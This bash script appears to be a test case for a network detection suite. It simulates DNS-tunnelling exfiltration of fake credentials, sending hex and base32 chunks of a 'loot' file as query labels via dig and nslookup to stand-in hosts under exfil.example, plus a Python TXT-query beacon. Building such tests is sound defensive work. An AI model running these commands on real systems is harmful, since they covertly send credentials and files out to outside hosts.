#!/bin/bash
# desc: data carried in DNS names to a resolver on another host: a file sent as hex labels with dig, base32 labels with nslookup, a python beacon with TXT queries
# mitre: T1071.004, T1048.003, T1572
# expect: dns_query_carries_data*3
source "$ATTACK_LIB"
source "$(dirname "$ATTACK_LIB")/netns.sh"

netns_create
ns_name_server
printf 'user=root;pass=hunter2;host=%s\n' "$(hostname)" >loot
for chunk in $(xxd -p -c 24 loot); do
	dig +short +time=1 +tries=1 @"$PEER" "$chunk.x1.exfil.example" A >/dev/null || true
done
label=$(head -c 30 loot | base32 -w0 | tr -d '=' | tr 'A-Z' 'a-z')
nslookup -timeout=1 -retry=0 "$label.d.exfil.example" "$PEER" >/dev/null 2>&1 || true
/usr/bin/python3 - "$PEER" <<'PY'
import os, socket, struct, sys
name = os.urandom(20).hex() + ".beacon.example"
q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">HH", 16, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
s.sendto(q, (sys.argv[1], 53))
try:
    s.recv(512)
except socket.timeout:
    pass
PY
